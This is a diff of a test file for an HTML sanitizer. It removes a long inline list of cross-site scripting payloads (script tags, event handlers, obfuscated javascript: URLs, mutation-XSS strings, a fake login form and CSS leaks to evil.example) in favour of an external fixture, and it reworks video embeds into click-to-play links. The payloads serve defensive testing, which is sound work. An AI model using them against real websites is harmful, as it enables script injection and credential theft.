@@ -2,21 +2,22 @@ import { createRequire } from 'node:module';
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { createImageAddresses } from '../imageAddress.ts';
+import { HOSTILE } from '../test/fixtures/hostile.ts';
 import { createHtml } from './html.ts';
 
 const images = createImageAddresses({ secrets: ['s'.repeat(32)], origins: () => ['https://wp.example'] });
-const html = createHtml({
+const options = {
   ownHosts: () => ['wp.example', 'labels.example'],
   images,
   embedHosts: ['www.youtube-nocookie.com', 'player.vimeo.com'],
-});
+};
+const html = createHtml(options);
 
 /** What is used here of jsdom, which brings no types. */
 interface Parsed {
   tagName: string;
   attributes: Iterable<{ name: string; value: string }>;
   matches(selector: string): boolean;
-  hasAttribute(name: string): boolean;
   getAttribute(name: string): string | null;
   querySelector(selector: string): Parsed | null;
   querySelectorAll(selector: string): Parsed[];
@@ -27,7 +28,7 @@ const { JSDOM } = createRequire(import.meta.url)('jsdom') as { JSDOM: { fragment
 const parse = (text: string): Parsed => JSDOM.fragment(text);
 
 const FORBIDDEN =
-  'script, style, object, embed, link, meta, base, form, input, button, svg, math, template, video, audio';
+  'script, style, iframe, object, embed, link, meta, base, form, input, button, svg, math, template, video, audio';
 
 /** Everything in the output that could act; empty when it is harmless. */
 function dangers(text: string): string[] {
@@ -37,117 +38,20 @@ function dangers(text: string): string[] {
     for (const { name, value } of element.attributes) {
       if (/^on|^style$|^id$|^name$|^srcdoc$|^formaction$|^xlink|^background$|^ping$/i.test(name)) found.push(name);
       if (name === 'src' || name === 'srcset') {
-        if (element.tagName !== 'IFRAME' && !value.startsWith('/_image/')) found.push(`${name}=${value}`);
-        if (element.tagName === 'IFRAME' && !/^https:\/\/(www\.youtube-nocookie|player\.vimeo)\.com\//.test(value))
-          found.push(`${name}=${value}`);
+        if (!value.startsWith('/_image/')) found.push(`${name}=${value}`);
       }
+      if (name === 'data-embed' && !/^https:\/\/(www\.youtube-nocookie|player\.vimeo)\.com\//.test(value))
+        found.push(`${name}=${value}`);
       if (name === 'href' && !/^(https?:\/\/|mailto:|tel:|\/(?!\/)|#)/.test(value)) found.push(`${name}=${value}`);
     }
-    if (element.tagName === 'IFRAME' && !element.hasAttribute('sandbox')) found.push('unsandboxed');
   }
   return found;
 }
 
-const HOSTILE = [
-  '<script>alert(1)</script>',
-  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
-  '<scr<script>ipt>alert(1)</scr</script>ipt>',
-  '<script\x20type="text/javascript">alert(1);</script>',
-  '<script/xss src="//evil.example"></script>',
-  '<<script>alert(1)//<</script>',
-  '<script>alert(1)',
-  '<img src=x onerror=alert(1)>',
-  '<img src=https://wp.example/a.png onerror=alert(1)>',
-  '<img """><script>alert(1)</script>">',
-  '<img src="javascript:alert(1)">',
-  '<img src="https://evil.example/track.gif">',
-  '<img src="//evil.example/track.gif">',
-  '<img srcset="https://evil.example/a.png 100w, javascript:alert(1) 200w">',
-  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
-  '<img src="https://wp.example/a.png" style="background:url(javascript:alert(1))">',
-  '<img/src="x"/onerror=alert(1)>',
-  '<img src=`javascript:alert(1)`>',
-  '<a href="javascript:alert(1)">x</a>',
-  '<a href="JaVaScRiPt:alert(1)">x</a>',
-  '<a href=" javascript:alert(1)">x</a>',
-  '<a href="java\tscript:alert(1)">x</a>',
-  '<a href="java\nscript:alert(1)">x</a>',
-  '<a href="\x01javascript:alert(1)">x</a>',
-  '<a href="java\0script:alert(1)">x</a>',
-  '<a href="&#106;avascript:alert(1)">x</a>',
-  '<a href="&#x6A;&#x61;vascript&colon;alert(1)">x</a>',
-  '<a href="javascript&NewLine;:alert(1)">x</a>',
-  '<a href="vbscript:msgbox(1)">x</a>',
-  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
-  '<a href="blob:https://wp.example/x">x</a>',
-  '<a href="file:///etc/passwd">x</a>',
-  '<a href="https://wp.example@evil.example/">x</a>',
-  '<a href="https://user:pass@wp.example/">x</a>',
-  '<a href="https://wp.example//evil.example/">x</a>',
-  '<a href="\\\\evil.example">x</a>',
-  '<a href="#" onclick="alert(1)" onmouseover=alert(1)>x</a>',
-  '<a href="/x" ping="https://evil.example">x</a>',
-  '<a id="config" name="config" href="/x">clobber</a>',
-  '<p onmouseover="alert(1)" style="position:fixed;inset:0">x</p>',
-  '<div style="behavior:url(x.htc)">x</div>',
-  '<body onload=alert(1)>',
-  '<svg onload=alert(1)>',
-  '<svg><script>alert(1)</script></svg>',
-  '<svg><a xlink:href="javascript:alert(1)"><text x=1 y=1>x</text></a></svg>',
-  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
-  '<svg><style><img src=x onerror=alert(1)></style></svg>',
-  '<svg><p><style><g title="</style><img src=x onerror=alert(1)>">',
-  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
-  '<math href="javascript:alert(1)">x</math>',
-  '<iframe src="javascript:alert(1)"></iframe>',
-  '<iframe src="https://evil.example/"></iframe>',
-  '<iframe src="https://player.vimeo.com.evil.example/"></iframe>',
-  '<iframe src="https://player.vimeo.com@evil.example/"></iframe>',
-  '<iframe src="http://player.vimeo.com/video/1"></iframe>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<iframe src="https://player.vimeo.com/video/1" srcdoc="<script>alert(1)</script>" onload=alert(1)></iframe>',
-  '<iframe src="https://player.vimeo.com/video/1"></iframe/><script>alert(1)</script></iframe>',
-  '<object data="https://evil.example/x.swf"></object>',
-  '<embed src="https://evil.example/x.swf">',
-  '<applet code="x">x</applet>',
-  '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
-  '<button formaction="javascript:alert(1)">x</button>',
-  '<isindex action="javascript:alert(1)">',
-  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
-  '<base href="https://evil.example/">',
-  '<link rel="stylesheet" href="https://evil.example/x.css">',
-  '<style>@import "https://evil.example/x.css";</style>',
-  '<style>*{background:url(https://evil.example/?leak)}</style>',
-  '<video><source onerror="alert(1)"></video>',
-  '<video poster="javascript:alert(1)" src="https://evil.example/x.mp4"></video>',
-  '<audio src=x onerror=alert(1)>',
-  '<details open ontoggle=alert(1)>x</details>',
-  '<marquee onstart=alert(1)>x</marquee>',
-  '<table background="javascript:alert(1)"><tr><td background="x">x</td></tr></table>',
-  '<template><script>alert(1)</script></template>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
-  '<noembed><img src=x onerror=alert(1)></noembed>',
-  '<xmp><img src=x onerror=alert(1)></xmp>',
-  '<plaintext><img src=x onerror=alert(1)>',
-  '<title><img src=x onerror=alert(1)></title>',
-  '<textarea></textarea/><img src=x onerror=alert(1)></textarea>',
-  '<select><option><img src=x onerror=alert(1)></option></select>',
-  '<!--<img src="--><img src=x onerror=alert(1)//">',
-  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
-  '<![CDATA[<img src=x onerror=alert(1)>]]>',
-  '<?xml-stylesheet href="javascript:alert(1)"?><p>x',
-  '<p title="</p><script>alert(1)</script>">x</p>',
-  '<img alt="\'><script>alert(1)</script>" src="https://wp.example/a.png">',
-  '<img alt="&quot; onload=&quot;alert(1)" src="https://wp.example/a.png">',
-  '<abbr title="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</abbr>',
-  '<div class="table-scroll evil" data-x="1">x</div>',
-  '&lt;script&gt;alert(1)&lt;/script&gt;',
-];
-
 describe('hostile content', () => {
   it('is what the judge of these tests takes it for', () => {
-    expect(HOSTILE.length).toBeGreaterThan(60);
-    expect(HOSTILE.filter(snippet => dangers(snippet).length > 0).length).toBeGreaterThan(55);
+    expect(new Set(HOSTILE).size).toBeGreaterThanOrEqual(200);
+    expect(HOSTILE.filter(snippet => dangers(snippet).length > 0).length).toBeGreaterThan(150);
   });
 
   it.each(HOSTILE)('ends harmless: %s', snippet => {
@@ -254,21 +158,39 @@ describe('a picture', () => {
     expect(img.getAttribute('srcset')).toMatch(/160w, [^ ]+ 300w$/);
   });
 
+  it('without a size has the one in the name of its file', () => {
+    const img = only('<img src="https://wp.example/u/a-300x200.png">');
+    expect([img.getAttribute('width'), img.getAttribute('height')]).toEqual(['300', '200']);
+  });
+
   it('from elsewhere is left out', () => {
     expect(html('<p>a<img src="https://evil.example/a.png">b</p>')).toBe('<p>ab</p>');
   });
 });
 
-describe('a frame', () => {
-  it('of a named host is sandboxed, lazy and named', () => {
-    const frame = parse(html('<iframe src="//player.vimeo.com/video/1" width="640" height="360"></iframe>'));
-    const { attributes } = frame.querySelector('iframe')!;
-    expect(Object.fromEntries([...attributes].map(a => [a.name, a.value]))).toMatchObject({
-      src: 'https://player.vimeo.com/video/1',
-      title: 'Video',
-      loading: 'lazy',
-      sandbox: expect.stringContaining('allow-scripts'),
-    });
+describe('a video', () => {
+  it.each([
+    [
+      '<iframe src="//player.vimeo.com/video/1?h=2" title="A seal &amp; a hand">not supported</iframe>',
+      '<a href="https://vimeo.com/1" rel="noopener" data-embed="https://player.vimeo.com/video/1?h=2">Play: A seal &amp; a hand (player.vimeo.com)</a>',
+    ],
+    [
+      '<iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ?start=4"></iframe>',
+      '<a href="https://www.youtube.com/watch?v=dQw4w9WgXcQ" rel="noopener" data-embed="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ?start=4">Play: Video (www.youtube-nocookie.com)</a>',
+    ],
+  ])('of a named host waits for a click: %s', (written, shown) => {
+    expect(html(written)).toBe(shown);
+  });
+
+  it('of a host that keeps cookies plays from its sister that does not', () => {
+    const both = createHtml({ ...options, embedHosts: ['www.youtube.com', 'www.youtube-nocookie.com'] });
+    expect(both('<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>')).toContain(
+      'data-embed="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"',
+    );
+  });
+
+  it('cannot be made of a link', () => {
+    expect(html('<a href="/x" data-embed="https://evil.example">x</a>')).toBe('<a href="/x">x</a>');
   });
 });
 
@@ -300,8 +222,15 @@ describe('the rest of a text', () => {
 
   it('has its tables in a scroller that a keyboard reaches', () => {
     expect(html('<table class="has-fixed-layout"><tbody><tr><td>1</td></tr></tbody></table>')).toBe(
-      '<div class="table-scroll" role="region" tabindex="0" aria-label="Table"><table class="has-fixed-layout"><tbody><tr><td>1</td></tr></tbody></table></div>',
+      '<div class="table-scroll" role="region" tabindex="0" aria-label="Table 1"><table class="has-fixed-layout"><tbody><tr><td>1</td></tr></tbody></table></div>',
     );
+  });
+
+  it('calls each table by its caption, or by its number', () => {
+    const labels = html(
+      '<table><tr><td>1</td></tr></table><table><caption>Widths "in" <b>mm</b></caption><tr><td>1</td></tr></table>',
+    ).match(/aria-label="[^"]*"/g);
+    expect(labels).toEqual(['aria-label="Table 1"', 'aria-label="Widths &quot;in&quot; mm"']);
   });
 
   it('has no empty paragraphs', () => {
